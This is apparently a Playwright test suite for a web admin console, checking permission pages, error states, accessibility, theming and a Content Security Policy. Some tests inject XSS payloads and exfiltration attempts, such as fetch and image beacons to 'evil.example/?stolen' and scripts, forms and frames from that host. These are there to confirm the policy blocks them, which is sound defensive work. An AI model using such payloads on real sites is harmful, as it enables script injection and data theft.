import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, suite, test } from 'node:test';
import type { Browser } from 'playwright-core';
import {
  noFactors,
  problemAnswer,
  sessionOf,
  startFakeServer,
  type FakeAnswer,
  type FakeServer,
} from './fake-server.ts';
import { axe, fitsWindow, phone, startBrowser, watchedPage, type Watched } from './support.ts';

const everybody = ['session:open', 'session:own'];

/** One page stands for all: what surrounds the pages, and what stands in for them. */
suite('around every page', () => {
  let browser: Browser;
  let server: FakeServer;
  let watched: Watched;
  let session: () => FakeAnswer;
  let sessions: () => FakeAnswer;

  before(async () => {
    browser = await startBrowser();
  });
  after(() => browser.close());
  beforeEach(async () => {
    session = () => ({ body: sessionOf(everybody) });
    sessions = () => ({ body: { items: [] } });
    server = await startFakeServer('console', {
      'GET /api/v1/session': () => session(),
      'GET /api/v1/sessions': () => sessions(),
      'GET /api/v1/factors': () => ({ body: noFactors }),
    });
    watched = await watchedPage(browser, { origins: [server.origin] });
  });
  afterEach(async () => {
    await watched.close();
    await server.close();
  });

  const open = async (path: string) => {
    await watched.page.goto(server.origin + path);
    await watched.page.waitForLoadState('networkidle');
  };
  const heading = (name: string) => watched.page.getByRole('heading', { name }).waitFor();

  test('a page that one may not see says which permission it takes and which roles bring it', async () => {
    await open('/apis');
    await heading('Not open to you');
    const text = await watched.page.locator('main').innerText();
    assert.match(text, /apis:read/);
    assert.match(text, /Administrator/);
    assert.ok(server.calls.every(call => call.path === '/api/v1/session'));
    await axe(watched.page);
    watched.quiet();
  });

  test('navigation offers nothing that one may not see', async () => {
    await open('/account');
    // The overview is open to everybody who is signed in, and shows them what they may see.
    assert.deepEqual(await watched.page.locator('nav[aria-label=Main] a').allInnerTexts(), ['Overview']);
  });

  test('an address without a page says so and leads back', async () => {
    await open('/nowhere/at/all');
    await heading('Page not found');
    await axe(watched.page);
    watched.quiet();
  });

  test('a failure names its code and reference, and another attempt is one press away', async () => {
    sessions = () => problemAnswer(500, 'internal', 'Internal error');
    await open('/account');
    await heading('Internal error');
    assert.match(await watched.page.locator('main').innerText(), /Code internal · reference 01JDEC1510N/);
    await axe(watched.page);
    sessions = () => ({ body: { items: [] } });
    await watched.page.getByRole('button', { name: 'Try again' }).click();
    await watched.page.getByRole('heading', { name: 'Internal error' }).waitFor({ state: 'detached' });
  });

  test('a refusal in the middle of a page names the permission', async () => {
    sessions = () => problemAnswer(403, 'forbidden', 'Not permitted', { permission: 'session:own' });
    await open('/account');
    await heading('Not open to you');
    assert.match(await watched.page.locator('main').innerText(), /session:own/);
  });

  test('a server that does not answer is told from one that refuses, and waited for', async () => {
    session = () => problemAnswer(503, 'busy', 'Busy');
    await open('/account');
    await heading('Busy');
    await axe(watched.page);
    session = () => ({ body: sessionOf(everybody) });
    await watched.page.getByRole('button', { name: 'Try again' }).click();
    await heading('Your account');
  });

  test('what a server says is shown as text, whatever is in it', async () => {
    const attack = '<img src=x onerror="document.title=1"><script>document.title=2</script>';
    sessions = () => ({
      body: { items: [{ id: 'a', agent: attack, createdAt: 1, lastSeenAt: 1, current: false }] },
    });
    await open('/account');
    await watched.page.getByText(attack).first().waitFor();
    assert.equal(await watched.page.title(), 'Your account · Gatehouse console');
    watched.quiet();
  });

  for (const [what, attempt] of [
    [
      'an inline script',
      'const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s)',
    ],
    [
      'markup made of text',
      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.ran=1>")',
    ],
    [
      'a handler in an attribute',
      'document.body.setAttribute("onclick", "window.ran=1"); document.body.click()',
    ],
    [
      'a script of another origin',
      'const s = document.createElement("script"); s.src = "https://evil.example/a.js"; document.body.append(s)',
    ],
    ['a request elsewhere', 'fetch("https://evil.example/?stolen").catch(() => {})'],
    ['a picture from elsewhere', 'new Image().src = "https://evil.example/?stolen"'],
    [
      'a form that leads elsewhere',
      'const f = document.createElement("form"); f.action = "https://evil.example/"; document.body.append(f); f.submit()',
    ],
    [
      'a frame',
      'const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f)',
    ],
    [
      'a new base for all links',
      'const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b)',
    ],
  ] as const)
    test(`the policy stops ${what}`, async () => {
      await open('/account');
      // Timers run in the page's own world, unlike what a test evaluates.
      await watched.page.evaluate(`try { ${attempt} } catch {}`);
      await watched.page.waitForTimeout(300);
      assert.equal(await watched.page.evaluate('window.ran'), undefined);
      assert.equal(new URL(watched.page.url()).origin, server.origin);
      assert.notDeepEqual([...watched.violations, ...watched.errors], [], 'nothing was stopped');
      assert.equal(await watched.page.evaluate('document.baseURI.startsWith(location.origin)'), true);
    });

  test('reading begins with a way past the navigation, and at the title after each step', async () => {
    await open('/account');
    await watched.page.keyboard.press('Tab');
    assert.equal(await watched.page.evaluate('document.activeElement.textContent'), 'Skip to the content');
    await watched.page.keyboard.press('Enter');
    assert.equal(await watched.page.evaluate('document.activeElement.id'), 'main');
    await watched.page.goto(`${server.origin}/nowhere`);
    await watched.page.getByRole('link', { name: 'Go to the start page' }).click();
    await watched.page.waitForURL('**/');
    await watched.page.goBack();
    await heading('Page not found');
    await watched.page.locator('h1:focus', { hasText: 'Page not found' }).waitFor();
  });

  test('on a phone navigation waits behind a button, out of reach of the keyboard until then', async () => {
    session = () => ({ body: sessionOf([...everybody, 'apis:read']) });
    await watched.page.setViewportSize(phone);
    await open('/account');
    const apis = watched.page.locator('#navigation').getByRole('link', { name: 'APIs' });
    assert.equal(await apis.isVisible(), false);
    for (let step = 0; step < 8; step++) {
      await watched.page.keyboard.press('Tab');
      assert.equal(
        await watched.page.evaluate('document.activeElement.closest("#navigation") === null'),
        true,
      );
    }
    const burger = watched.page.getByRole('button', { name: 'Navigation' });
    await burger.click();
    await apis.waitFor();
    assert.equal(await burger.getAttribute('aria-expanded'), 'true');
    await axe(watched.page);
    await fitsWindow(watched.page);
  });

  test('light, dark or as the system: what is chosen stays after a reload', async () => {
    await open('/account');
    await watched.page.getByRole('button', { name: /^Colours/ }).click();
    await watched.page.getByRole('menuitem', { name: 'Dark' }).click();
    const scheme = () => watched.page.evaluate('document.documentElement.dataset.mantineColorScheme');
    assert.equal(await scheme(), 'dark');
    await watched.page.reload();
    await heading('Your account');
    assert.equal(await scheme(), 'dark');
    watched.quiet();
  });

  test('times are those of the viewer, with the zone in their title', async () => {
    sessions = () => ({
      body: {
        items: [{ id: 'a', agent: 'Chrome', createdAt: 1_700_000_000_000, lastSeenAt: 1, current: true }],
      },
    });
    await watched.close();
    watched = await watchedPage(browser, {
      origins: [server.origin],
      timezoneId: 'Asia/Tokyo',
      locale: 'en-GB',
    });
    await open('/account');
    const time = watched.page.locator('time[datetime="2023-11-14T22:13:20.000Z"]');
    assert.match(await time.innerText(), /15 Nov 2023, 07:13/);
    assert.match((await time.getAttribute('title')) ?? '', /GMT\+9/);
  });
});
